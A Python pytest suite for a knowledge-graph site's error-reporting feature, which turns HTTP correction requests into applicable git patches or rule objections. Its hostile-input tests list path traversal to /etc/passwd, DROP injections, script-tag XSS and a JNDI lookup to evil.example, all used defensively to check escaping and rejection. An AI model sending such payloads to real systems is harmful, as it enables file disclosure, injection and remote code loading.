"""Reporting an error over HTTP: from a note to a patch that applies, or to what rules object."""

import re
import subprocess
import tarfile
from collections.abc import Iterator
from contextlib import contextmanager
from html import unescape
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest

from enact_graph.authoring.review import review
from enact_graph.publishing.pipeline import build
from enact_graph.release.store import SOURCES, current
from tests.conftest import Site, running
from tests.part import take_part
from tests.patience import PATIENCE
from tests.strata import some

PAGE = "text/html"
DIFF = "text/x-diff"
ROR = "https://ror.org/02kvxyf05"
COMMUNES = "https://github.com/etalab/decoupage-administratif"
LEAD = {"s": "enact-membership-inria", "g": "press-release-2024-05-22-p16"}


@pytest.fixture(scope="module")
def real_site(real_public: Path) -> Iterator[Site]:
    """The release of this repository, served with time for a check on a machine at work."""
    yield from patient(real_public)


@pytest.fixture(scope="module")
def part_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A release of a part of this repository: a check of all rules, in less time."""
    folder = tmp_path_factory.mktemp("part")
    take_part(folder / "root")
    build(folder / "root", folder / "public")
    yield from patient(folder / "public")


@pytest.fixture(scope="module")
def site(tiny_public: Path) -> Iterator[Site]:
    """The release of tests/tiny, served likewise."""
    yield from patient(tiny_public)


def patient(public: Path) -> Iterator[Site]:
    with (
        pytest.MonkeyPatch.context() as patch,
        small(public, patch, check_seconds="300", check_queue="16") as client,
    ):
        yield Site(str(client.base_url), current(public), client)


def links(page: str, path: str = "/correct") -> list[dict[str, str]]:
    """The parameters of every link to a path."""
    found = [unescape(h) for h in re.findall(r'href="([^"]+)"', page)]
    parted = [urlsplit(h) for h in found]
    return [{k: v[0] for k, v in parse_qs(p.query).items()} for p in parted if p.path == path]


def statement(site: Site, s: str, g: str, label: str, value: str, lang: str = "en") -> str:
    """The short name of the statement that the list of statements tells in these words."""
    page = site.get(f"/correct?{urlencode({'s': s, 'g': g, 'lang': lang})}", PAGE).text
    told = re.findall(
        r'<a href="([^"]+)"><span class="cap muted">(.*?)</span> <span>(.*?)</span></a></li>', page
    )
    for href, said, shown in told:
        text = unescape(re.sub(r"<[^>]+>", "", shown)).strip()
        if unescape(said) in (label, "prefLabel") and text.startswith(value):
            return parse_qs(urlsplit(unescape(href)).query)["t"][0]
    raise AssertionError(f"no {label} {value}: {told}")


def get(site: Site, path: str, accept: str | None = None, **asked: str) -> httpx.Response:
    address = f"{path}?{urlencode(asked)}"
    return site.client.get(address, headers={"Accept": accept or "*/*"}, timeout=PATIENCE)


def missing(site: Site) -> dict[str, str]:
    """The form with which a further name of Inria is proposed; its value and source are not."""
    t = statement(site, "inria", "curation", "alternative name", "National Institute")
    return {"s": "inria", "g": "curation", "t": t, "what": "missing", "lang": "en"}


def authored(site: Site, folder: Path) -> Path:
    """A checkout of the authored files, as git has it."""
    with tarfile.open(site.release.file(SOURCES)) as archive:
        archive.extractall(folder, filter="data")
    subprocess.run(["git", "init", "-q", folder], check=True)
    return folder


def apply(patch: bytes, folder: Path, *command: str) -> None:
    file = folder.parent / "correction.patch"
    file.write_bytes(patch)
    with file.open() as content:
        subprocess.run(command, cwd=folder, stdin=content, check=True, stdout=subprocess.DEVNULL)


def test_each_note_of_a_page_leads_to_what_its_source_says(real_site: Site) -> None:
    page = real_site.get("/doc/inria?lang=de", PAGE).text
    told = links(page)
    notes = page.count('<details class="note">')
    assert page.count("Fehler melden") == notes > 20
    for asked in told[:6]:
        assert asked["lang"] == "de"
        answer = get(real_site, "/correct", PAGE, **asked)
        assert answer.status_code == 200, asked
    for note in re.findall(r'<details class="note">.*?</details>', page, re.DOTALL):
        assert len(links(note)) == 1, note


def test_notes_cost_a_page_little(real_site: Site) -> None:
    page = real_site.get("/doc/universite-de-lorraine?lang=fr", PAGE).text
    notes = page.count('<details class="note">')
    anchors = re.findall(r'<a href="/correct\?[^"]*">[^<]*</a>', page)
    assert notes > 50
    assert sum(map(len, anchors)) / notes < 150


@pytest.mark.parametrize("lang", ["fr", "en", "de"])
def test_a_correction_is_found_step_by_step(real_site: Site, lang: str) -> None:
    start = get(real_site, "/correct", PAGE, lang=lang)
    assert start.headers["content-language"] == lang
    found = get(real_site, "/correct", PAGE, lang=lang, name="Inria").text
    assert {"s": "inria", "lang": lang} in links(found)
    sources = get(real_site, "/correct", PAGE, lang=lang, s="inria").text
    assert {"s": "inria", "g": "ror-02kvxyf05", "lang": lang} in links(sources)
    said = get(real_site, "/correct", PAGE, lang=lang, s="inria", g="ror-02kvxyf05").text
    statements = [a for a in links(said) if "t" in a]
    assert len(statements) > 3
    form = get(real_site, "/correct", PAGE, **statements[0]).text
    assert all(f'value="{what}"' in form for what in ("value", "missing", "thing", "source"))
    assert '<form class="form correction" action="/correct' in form
    assert 'method="post"' not in form.lower()


def test_a_thing_is_found_by_its_address_and_its_names(real_site: Site) -> None:
    for name in (
        "https://w3id.org/enact-graph/id/inria",
        "http://127.0.0.1:8000/doc/inria?lang=fr",
        "INRIA",
        "Institut national de recherche en sciences et technologies du numérique",
    ):
        page = get(real_site, "/correct", PAGE, name=name, lang="en").text
        assert any(a.get("s") == "inria" for a in links(page)), name
    near = get(real_site, "/correct", PAGE, name="inriaa", lang="en").text
    assert any(a.get("s") == "inria" for a in links(near))


def test_what_a_graph_speaks_of_is_listed_and_a_long_list_says_that_it_goes_on(
    real_site: Site,
) -> None:
    page = get(real_site, "/correct", PAGE, g=LEAD["g"], lang="en").text
    assert {"s": LEAD["s"], "g": LEAD["g"], "lang": "en"} in links(page)
    assert "only the beginning" not in page
    for asked in ({"g": "curation"}, {"g": "curation", "s": "enact"}):
        page = get(real_site, "/correct", PAGE, **asked, lang="en").text
        assert "only the beginning" in page
        assert len(page) < 150_000
    rule = get(real_site, "/correct", PAGE, s="inria", g="inferred-member", lang="en").text
    assert "A rule drew this conclusion." in rule


def test_a_misspelt_name_becomes_a_patch_that_applies(part_site: Site, tmp_path: Path) -> None:
    t = statement(part_site, "inria", "curation", "name", "Inria English")
    asked = {"s": "inria", "g": "curation", "t": t, "what": "value", "value": "Inria Institute"}
    asked |= {"lang": "en", "in": "en"}
    page = get(part_site, "/correct", PAGE, **asked)
    assert page.status_code == 200
    assert "none violated" in page.text
    assert "data/curation.trig" in page.text
    offered = links(page.text, "/correct.patch")
    assert offered, page.text
    patch = get(part_site, "/correct.patch", None, **offered[0])
    assert patch.headers["content-type"].startswith(DIFF)
    assert "attachment" in patch.headers["content-disposition"]
    lines = patch.text.split("\n")
    assert [line for line in lines if re.match(r"[-+] ", line)] == [
        next(line for line in lines if line.startswith("-  ")),
        '+        skos:prefLabel "Inria Institute"@en ;',
    ]
    for name, command in (("git", ("git", "apply", "-")), ("patch", ("patch", "-p1", "-s"))):
        folder = authored(part_site, tmp_path / name / "checkout")
        apply(patch.content, folder, *command)
        assert '"Inria Institute"@en' in (folder / "data/curation.trig").read_text("utf-8")
    reviewed = review(tmp_path / "git/checkout")
    assert reviewed.is_whole
    assert reviewed.findings == ()


def test_an_end_with_a_new_source_becomes_a_document_of_its_own(
    part_site: Site, tmp_path: Path
) -> None:
    t = statement(part_site, **LEAD, label="role", value="member")
    asked = LEAD | {"t": t, "lang": "fr", "what": "ended", "end": "2025-03"}
    asked |= {"url": "https://www.example.org/nouvelle?id=7"}
    page = get(part_site, "/correct", PAGE, **asked).text
    assert "pas encore connue" in page
    assert not links(page, "/correct.patch")
    asked |= {"title": "Inria quitte le cluster", "by": "Exemple Éditions", "tongue": "fr"}
    asked |= {"issued": "2025-04", "read": "2026-11-20"}
    page = get(part_site, "/correct", PAGE, **asked).text
    assert "aucune violée" in page
    patch = get(part_site, "/correct.patch", None, **links(page, "/correct.patch")[0])
    file = "data/documents/exemple-editions-2025-04-inria-quitte-le-cluster.trig"
    assert f"+++ b/{file}" in patch.text
    folder = authored(part_site, tmp_path / "checkout")
    apply(patch.content, folder, "git", "apply", "-")
    text = (folder / file).read_text("utf-8")
    assert 'schema:endDate "2025-03-31"^^xsd:date ;' in text
    assert "enact:endPrecision v:precision-month ;" in text
    reviewed = review(folder)
    assert [f for f in reviewed.findings if f.severity == "violation"] == []


@pytest.mark.parametrize(
    ("lang", "verdict", "cure"),
    [
        ("fr", "1 règle violée", "Remède"),
        ("en", "1 rule violated", "Cure"),
        ("de", "1 Regel verletzt", "Abhilfe"),
    ],
)
def test_what_rules_refuse_is_shown_with_place_and_cure_and_not_offered(
    part_site: Site, lang: str, verdict: str, cure: str
) -> None:
    t = statement(part_site, **LEAD, label="role", value="member")
    asked = LEAD | {"t": t, "lang": lang, "what": "value", "concept": "v:role-lead"}
    page = get(part_site, "/correct", PAGE, **asked)
    assert page.status_code == 200
    assert verdict in page.text.replace("\u00a0", " ").replace("\u202f", " ")
    assert cure in page.text
    assert re.search(r"<code>data/[\w./-]+\.trig:\d+</code>", page.text)
    assert 'href="/shapes' in page.text
    assert "#Cluster-one-lead" in page.text
    assert not links(page.text, "/correct.patch")
    refused = get(part_site, "/correct.patch", None, **asked)
    assert refused.status_code == 422
    problem = refused.json()
    assert problem["type"].endswith("/proposal-refused")
    assert problem["objections"][0]["file"].startswith("data/")
    assert set(problem["objections"][0]["cure"]) == {"fr", "en", "de"}


def test_a_wrong_link_is_rejected_in_its_line(real_site: Site, tmp_path: Path) -> None:
    page = get(real_site, "/correct", PAGE, s="inria", g="links", lang="en").text
    asked = next(a for a in links(page) if "t" in a)
    asked |= {"what": "source", "url": "https://www.wikidata.org/wiki/Q1146208"}
    page = get(real_site, "/correct", PAGE, **asked).text
    assert "none violated" in page or "violated" in page
    assert "links.sssom.tsv" in page
    assert re.search(r'<span class="add">\+id:inria\t.*\tNot\t', page)


@pytest.mark.parametrize(
    "source",
    some(({"url": ROR}, {"url": COMMUNES, "doc": "src:etalab-commune-06088", "in": "fr"}), 0.5),
    ids=str,
)
def test_a_missing_value_goes_where_the_known_source_has_its_block(
    real_site: Site, source: dict[str, str]
) -> None:
    asked = missing(real_site)
    page = get(real_site, "/correct", PAGE, **asked, **source, value="Inria Research").text
    assert "violated" in page
    assert "Inria Research" in page.partition('<pre class="diff')[2]


def test_a_missing_value_needs_a_source(real_site: Site) -> None:
    need = get(real_site, "/correct", PAGE, **missing(real_site), value="Inria Research").text
    assert "An answer is needed here." in need


def test_a_figure_of_another_source_stands_beside_the_first(
    real_site: Site, tmp_path: Path
) -> None:
    of = {"s": "observation-attendance-annual-day-2025", "g": "enact-2025-12-annual-day"}
    t = statement(real_site, **of, label="value", value="150")
    asked = of | {"t": t, "what": "value", "value": "200", "url": "https://cluster-ia-enact.ai/x"}
    asked |= {"title": "Bilan", "by": "ENACT", "tongue": "fr", "read": "2026-11-29", "lang": "en"}
    page = get(real_site, "/correct", PAGE, **asked).text
    assert "none violated" in page
    patch = get(real_site, "/correct.patch", None, **asked).text
    assert not [line for line in patch.split("\n") if line.startswith("-  ")]
    assert "+        schema:value 200 ;" in patch
    assert "+        enact:differsFrom id:observation-attendance-annual-day-2025-enact-" in patch
    # Of a body there is one: what another source says of it is no reason to change this one's.
    of = {"s": "enact", "g": "enact-2025-12-annual-day"}
    t = statement(real_site, **of, label="official name", value="cluster IA")
    asked |= of | {"t": t, "value": "Autre nom", "in": "fr"}
    refused = get(real_site, "/correct.patch", None, **asked)
    assert refused.status_code == 422
    assert refused.json()["faults"] == [{"answer": "url", "code": "other-source"}]


def test_of_several_documents_at_one_address_the_reader_chooses(real_site: Site) -> None:
    asked = missing(real_site) | {"value": "Institut Inria", "url": COMMUNES, "in": "fr"}
    for lang, says in (("fr", "ont cette adresse"), ("en", "choose the one"), ("de", "auswählen")):
        page = get(real_site, "/correct", PAGE, **(asked | {"lang": lang})).text
        assert says in page
    chosen = re.findall(r'<input type="radio" name="doc" value="(src:[\w-]+)">', page)
    assert len(chosen) > 20
    refused = get(real_site, "/correct.patch", None, **asked).json()
    assert refused["faults"][0]["code"] == "several"
    assert refused["faults"][0]["near"].split(", ") == chosen
    # A choice that has still to be completed is kept by the form, and nothing is checked yet.
    page = get(real_site, "/correct", PAGE, **(asked | {"value": "", "doc": chosen[0]})).text
    assert f'<input type="hidden" name="doc" value="{chosen[0]}">' in page


def test_things_are_found_as_the_search_finds_them(real_site: Site) -> None:
    for name in ("universite de Lorraine", "https://ror.org/04vfs2w97", "UL"):
        page = get(real_site, "/correct", PAGE, name=name, lang="en").text
        assert any(a.get("s") == "universite-de-lorraine" for a in links(page)), name


HOSTILE = [
    {"s": "../../etc/passwd"},
    {"s": "inria", "g": "../../../etc/passwd"},
    {"s": "file:///etc/passwd", "g": "x"},
    {"s": "inria", "g": "curation", "t": "'; DROP"},
    {"s": "inria", "g": "curation", "t": "0" * 12, "what": "value"},
    {"s": "inria> } . DROP ALL #", "g": "curation"},
    {"name": 'x" . } DROP ALL #'},
    {"name": "\\"},
    {"name": "<script>alert(1)</script>"},
    {"name": "x" * 301},
    {"name": "a\nb"},
    {"s": "inria", "what": "everything"},
    {"s": "no-such-thing"},
    {"g": "no-such-graph"},
]


@pytest.mark.parametrize("asked", HOSTILE, ids=str)
def test_hostile_addresses_get_an_answer_that_harms_nobody(
    site: Site, asked: dict[str, str]
) -> None:
    for path in ("/correct", "/correct.patch", "/cite"):
        answer = get(site, path, PAGE, **asked)
        assert answer.status_code in (200, 400, 404), (path, answer.text)
        assert "<script>" not in answer.text
        assert "root:" not in answer.text
        assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "value",
    [
        '"@en . } DROP ALL',
        "a\\u0022 ; owl:sameAs <http://evil.example>",
        "</textarea><script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "--- a/data/curation.trig",
        "𝕌nicode ✓ \u202e rtl",
    ],
)
def test_hostile_values_stay_texts(site: Site, value: str) -> None:
    page = get(site, "/correct", PAGE, s="inria", lang="en").text
    graph = next(a["g"] for a in links(page) if a.get("g") == "curation")
    t = statement(site, "inria", graph, "name", "Inria")
    asked = {"s": "inria", "g": graph, "t": t, "what": "value", "value": value, "lang": "en"}
    answer = get(site, "/correct", PAGE, **asked)
    assert answer.status_code == 200
    assert "<script>alert" not in answer.text
    assert "evil.example>" not in answer.text.replace("&gt;", "")
    patch = get(site, "/correct.patch", None, **asked)
    assert patch.status_code in (200, 422)
    if patch.status_code == 200:
        added = [x for x in patch.text.split("\n") if x.startswith("+") and not x.startswith("+++")]
        assert len(added) == 1
        assert added[0].startswith('+        skos:prefLabel "')


def test_addresses_of_people_have_no_place_here(site: Site) -> None:
    t = statement(site, "inria", "curation", "name", "Inria")
    for value in (
        "write to ada@example.org",
        "+33 3 12 34 56 78",
        "call 03 12 34 56 78",
        "0612345678",
        "0681 85775 0",
    ):
        asked = {"s": "inria", "g": "curation", "t": t, "what": "value", "value": value}
        page = get(site, "/correct", PAGE, **asked, lang="en").text
        assert "no place here" in page
        assert not links(page, "/correct.patch")


@contextmanager
def small(public: Path, monkeypatch: pytest.MonkeyPatch, **given: str) -> Iterator[httpx.Client]:
    """A server of its own, with settings of its own."""
    for name, value in given.items():
        monkeypatch.setenv(f"ENACT_GRAPH_{name.upper()}", value)
    with running(public) as (_, url), httpx.Client(base_url=url, timeout=PATIENCE) as client:
        yield client


def test_nothing_is_left_behind(
    tiny_public: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.setenv("TMPDIR", str(work))
    before = {p: p.stat().st_mtime_ns for p in tiny_public.rglob("*") if p.is_file()}
    with small(tiny_public, monkeypatch) as client:
        site = Site("", None, client)  # type: ignore[arg-type]
        t = statement(site, "inria", "curation", "name", "Inria")
        asked = {"s": "inria", "g": "curation", "t": t, "what": "value", "value": "Inria!"}
        answer = get(site, "/correct", PAGE, **asked)
        assert answer.status_code == 200
        assert answer.headers["cache-control"] == "no-store"
        assert "set-cookie" not in answer.headers
    assert list(work.iterdir()) == []
    assert {p: p.stat().st_mtime_ns for p in tiny_public.rglob("*") if p.is_file()} == before


def test_a_check_that_takes_too_long_is_ended(
    tiny_public: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    with small(tiny_public, monkeypatch, check_seconds="0.05") as client:
        site = Site("", None, client)  # type: ignore[arg-type]
        t = statement(site, "inria", "curation", "name", "Inria")
        asked = {"s": "inria", "g": "curation", "t": t, "what": "value", "value": "Inria!"}
        answer = get(site, "/correct.patch", None, **asked)
        assert answer.status_code == 503
        assert answer.json()["type"].endswith("/check-limit")
        assert client.get("/health/ready").status_code == 200
    assert list(tmp_path.iterdir()) == []


def test_checks_wait_in_a_short_line_and_queries_do_not(
    tiny_public: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from concurrent.futures import ThreadPoolExecutor

    with small(tiny_public, monkeypatch, check_queue="0") as client:
        site = Site("", None, client)  # type: ignore[arg-type]
        t = statement(site, "inria", "curation", "name", "Inria")
        asked = {"s": "inria", "g": "curation", "t": t, "what": "value"}
        with ThreadPoolExecutor(4) as pool:
            sent = [
                pool.submit(get, site, "/correct.patch", None, **asked, value=f"Inria {n}")
                for n in range(4)
            ]
            assert client.get("/sparql?query=ASK{}").status_code == 200
            answers = [future.result() for future in sent]
        busy = [a for a in answers if a.status_code == 503]
        assert busy
        assert len(busy) < len(answers)
        for answer in busy:
            assert answer.json()["type"].endswith("/checks-busy")
            assert int(answer.headers["retry-after"]) > 0
        # What was checked once is told at once.
        done = next(n for n, a in enumerate(answers) if a.status_code != 503)
        again = get(site, "/correct.patch", None, **asked, value=f"Inria {done}")
        assert again.elapsed.total_seconds() < 0.5


def test_the_operator_says_where_proposals_go(
    tiny_public: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    forge = "https://forge.example/new?title={title}&body={body}"
    with small(
        tiny_public, monkeypatch, repository=forge, contact="mailto:data@example.org"
    ) as client:
        site = Site("", None, client)  # type: ignore[arg-type]
        t = statement(site, "inria", "curation", "name", "Inria")
        asked = {"s": "inria", "g": "curation", "t": t, "what": "value", "value": "Inria Centre"}
        page = get(site, "/correct", PAGE, **asked, lang="en").text
        if "none violated" in page:
            (address,) = re.findall(r'href="(https://forge[^"]+)"', page)
            said = parse_qs(urlsplit(unescape(address)).query)
            assert said["title"][0].startswith("Correction: ")
            assert "git apply" in said["body"][0]
            assert 'href="mailto:data@example.org"' in page
        about = get(site, "/about", PAGE, lang="en").text
        assert 'href="mailto:data@example.org"' in about
        text = client.get("/.well-known/security.txt").text
        assert re.match(
            r"Contact: mailto:data@example\.org\nExpires: \d{4}-\d\d-\d\dT00:00:00Z\n", text
        )
